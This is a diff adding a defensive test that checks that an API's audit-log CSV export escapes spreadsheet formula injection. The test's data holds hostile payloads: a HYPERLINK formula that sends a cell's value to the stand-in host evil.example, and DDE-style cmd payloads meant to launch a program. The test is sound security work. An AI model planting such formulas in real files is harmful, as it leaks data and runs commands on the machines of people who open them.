@@ -138,3 +138,48 @@ async def test_an_empty_export_still_has_its_header_row(api: TestClient, tenant:
         )
         + "\r\n"
     )
+
+
+HOSTILE_USER_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+async def test_export_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(
+    api: TestClient, tenant: Tenant, conn: asyncpg.Connection
+) -> None:
+    status, aircraft, _ = await call(
+        api,
+        "POST",
+        "/api/v1/aircraft",
+        tenant["scheduler"],
+        json={"tail_number": "N666EV", "model": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        headers={"User-Agent": HOSTILE_USER_AGENT},
+    )
+    assert status == 201
+    hostile = {"+": "+1+cmd|' /C calc'!A0", "-": "-2+3", "tab": "\t=1+1", "cr": "\r=1+1", "space": "  =1+1"}
+    for name, value in hostile.items():
+        await make_audit_log(
+            conn,
+            tenant.org_id,
+            entity_type=value,
+            entity_id=uuid.UUID(aircraft["id"]),
+            ip_address=value,
+            user_agent=f"@{name}",
+            details={"notes": "=1+1", "model": value},
+        )
+    async with api.get(
+        f"/api/v1/audit-logs/export?entity_id={aircraft['id']}", headers=tenant["auditor"].auth
+    ) as response:
+        assert response.status == 200
+        rows = list(csv.reader(io.StringIO((await response.read()).decode(), newline="")))
+    header, created, *inserted = rows
+    assert created[header.index("user_agent")] == "'" + HOSTILE_USER_AGENT
+    assert len(inserted) == len(hostile)
+    for row, (name, value) in zip(inserted, hostile.items(), strict=True):
+        assert row[header.index("entity_type")] == "'" + value, name
+        assert row[header.index("ip_address")] == "'" + value, name
+        assert row[header.index("user_agent")] == f"'@{name}"
+        # a JSON object starts with "{": nothing in it can start the cell, so it stays parseable as is
+        assert orjson.loads(row[header.index("details")]) == {"notes": "=1+1", "model": value}
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell
